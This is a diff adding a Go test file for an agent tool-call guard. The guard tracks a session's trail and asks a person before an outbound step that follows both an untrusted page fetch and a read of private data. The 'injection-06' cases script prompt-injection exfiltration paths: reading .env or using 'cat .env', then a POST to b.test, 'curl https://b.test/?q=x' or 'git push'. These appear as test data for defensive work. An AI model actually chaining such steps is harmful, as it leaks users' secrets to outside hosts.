@@ -1,0 +1,136 @@
+package guard
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+
+	"rein/tool"
+)
+
+// step is one call of a session, and what comes of it by the trail and what asks anyway.
+type step struct {
+	name    string
+	intent  tool.Intent
+	args    string
+	want    Decision
+	refused bool // it does not run
+}
+
+func fetchOf(host string) step {
+	return step{name: "web_fetch", intent: tool.Intent{Hosts: []string{host}}}
+}
+func post(host string) step {
+	return step{name: "http_request", intent: tool.Intent{Hosts: []string{host}}, args: `{"method":"POST","body":"x"}`}
+}
+func command(line string) step { return step{name: "bash", intent: tool.Intent{Command: line}} }
+func reading(path string) step {
+	return step{name: "read_file", intent: tool.Intent{Reads: []string{path}}}
+}
+func (s step) is(d Decision) step {
+	s.want = d
+	return s
+}
+
+// walk takes a session step by step and checks what the trail alone says.
+func walk(t *testing.T, mode Mode, steps ...step) []Verdict {
+	t.Helper()
+	trail := &Trail{Programs: home}
+	var all []Verdict
+	for i, s := range steps {
+		c := call(s.name, s.intent)
+		c.Call.ID, c.Call.Args, c.Mode = fmt.Sprint(i), []byte(s.args), mode
+		if s.args == "" {
+			c.Call.Args = []byte("{}")
+		}
+		if strings.HasPrefix(s.name, "mcp__") {
+			c.Effect, c.Intent.Unknown = tool.Reads|tool.Reaches, true
+		}
+		v := trail.Judge(t.Context(), c)
+		if v.Decision != s.want {
+			t.Errorf("step %d, %s %+v in %v: %v (%s)", i, s.name, s.intent, mode, v.Decision, v.Reason)
+		}
+		if !s.refused {
+			trail.Ran(c)
+		}
+		all = append(all, v)
+	}
+	return all
+}
+
+func TestTrail(t *testing.T) {
+	env := reading(".env")
+	rows := map[string][]step{
+		"one leg is no matter: private data alone":            {env, command("npm install"), command("git push"), post("a.test")},
+		"one leg is no matter: pages alone":                   {fetchOf("a.test"), fetchOf("b.test"), command("go test ./..."), command("npm install"), command("git fetch")},
+		"injection-06 a page, private data, a way out":        {fetchOf("a.test"), env, post("b.test").is(Ask)},
+		"injection-06 in the other order":                     {env, fetchOf("a.test"), post("b.test").is(Ask)},
+		"injection-06 an address carries a little, too":       {env, fetchOf("a.test"), fetchOf("b.test").is(Ask), command("curl https://b.test/?q=x").is(Ask), command("git push").is(Ask), command("npm install").is(Ask)},
+		"injection-06 a tool of another server":               {step{name: "mcp__x__search"}, env, step{name: "mcp__x__send"}.is(Ask)},
+		"injection-06 a file from outside":                    {reading("/home/dev/mail/inbox"), command("cat .env"), fetchOf("a.test").is(Ask)},
+		"injection-06 read by a program":                      {command("curl -s https://a.test"), command("cat .env.local | head"), fetchOf("a.test").is(Ask)},
+		"injection-06 what stays here stays quiet":            {fetchOf("a.test"), env, command("go test ./..."), command("git commit -am x"), reading("main.go"), step{name: "write_file", intent: tool.Intent{Writes: []string{"a"}}}},
+		"sending after a page asks":                           {fetchOf("a.test"), post("a.test").is(Ask), command("git push").is(Ask)},
+		"asked once about each place":                         {fetchOf("a.test"), env, fetchOf("a.test").is(Ask), fetchOf("a.test"), post("a.test").is(Ask), post("a.test"), fetchOf("b.test").is(Ask)},
+		"a kind of command is a place":                        {fetchOf("a.test"), env, command("npm install x").is(Ask), command("npm install y"), command("npm publish").is(Ask)},
+		"what cannot be spelled out asks each time":           {fetchOf("a.test"), env, command("npm install $x | tail").is(Ask), command("npm install $x | tail").is(Ask)},
+		"what was refused is not let":                         {fetchOf("a.test"), env, {name: "web_fetch", intent: tool.Intent{Hosts: []string{"a.test"}}, want: Ask, refused: true}, fetchOf("a.test").is(Ask)},
+		"what was let before the private data is asked again": {fetchOf("a.test"), post("a.test").is(Ask), post("a.test"), env, post("a.test").is(Ask)},
+	}
+	for rule, steps := range rows {
+		for _, m := range []Mode{Supervised, Full} {
+			t.Run(rule+" in "+m.String(), func(t *testing.T) { walk(t, m, steps...) })
+		}
+	}
+}
+
+// TestTrailIsAnsweredByAPerson: once both were read, no lasting answer and no ordinary rule speaks for a way out.
+func TestTrailIsAnsweredByAPerson(t *testing.T) {
+	list := rules(t, User, `{"allow":["bash(npm install:*)", "web_fetch(domain:a.test)"]}`)
+	risky := rules(t, User, `{"allow":[{"rule":"bash(npm install:*)","risk":"high"}]}`)
+	trail := &Trail{Programs: home}
+	trail.Ran(call("web_fetch", tool.Intent{Hosts: []string{"a.test"}}))
+	trail.Ran(call("read_file", tool.Intent{Reads: []string{".env"}}))
+	all := All{Guards: []Guard{home, Hosts{}, trail}}
+	for _, c := range []Case{bash("npm install x"), bash("ls; npm install x"), call("web_fetch", tool.Intent{Hosts: []string{"a.test"}})} {
+		v := all.Judge(t.Context(), c)
+		if a, _ := (&Rules{List: list, Programs: home}).Approve(t.Context(), c, v); a.Reply != Pass || len(Offer(c, v, home)) > 0 {
+			t.Errorf("%q: a rule answers: %+v", c.Intent.Command, a)
+		}
+	}
+	c := bash("ls; npm install x")
+	if a, _ := (&Rules{List: risky, Programs: home}).Approve(t.Context(), c, all.Judge(t.Context(), c)); a.Reply != Yes {
+		t.Error("a rule that says risk: high does not count")
+	}
+}
+
+// TestTrailIsQuiet takes ordinary sessions and checks that nothing asks that would not without the trail.
+func TestTrailIsQuiet(t *testing.T) {
+	known := Hosts{Known: func(h string) bool { return h == "pkg.go.dev" }}
+	edit := step{name: "write_file", intent: tool.Intent{Writes: []string{"a.go"}, Reads: []string{"a.go"}}}
+	work := []step{fetchOf("pkg.go.dev"), edit, command("go test ./..."), fetchOf("pkg.go.dev"), edit, command("go build ./... && go vet ./..."), command("git add -A"), command("git commit -m x"), reading("README.md"), command("git log --oneline | head")}
+	for _, m := range []Mode{Supervised, Full} {
+		trail := &Trail{Programs: home}
+		plain := All{Guards: []Guard{home, known, Paths{Here: home.Here}}}
+		with := All{Guards: append([]Guard{trail}, plain.Guards...)}
+		steps := work
+		if m == Full {
+			steps = append(steps, command("go get example.com/x"), command("npm install"), command("git fetch"), command("git pull"))
+		}
+		for i, s := range steps {
+			c := call(s.name, s.intent)
+			c.Call.ID, c.Mode = fmt.Sprint(i), m
+			if a, b := plain.Judge(t.Context(), c), with.Judge(t.Context(), c); a.Decision != b.Decision || a.Severity != b.Severity {
+				t.Errorf("%+v in %v: %v becomes %v (%s)", s.intent, m, a.Decision, b.Decision, b.Reason)
+			}
+			trail.Ran(c)
+		}
+	}
+	for _, kind := range []string{"allowed", "asked", "denied"} { // no line by itself is a session
+		for _, cmd := range labelled(t, kind) {
+			if v := (&Trail{Programs: home}).Judge(t.Context(), bash(cmd)); v.Decision != Allow || v.Reason != "" {
+				t.Errorf("%q: %+v", cmd, v)
+			}
+		}
+	}
+}
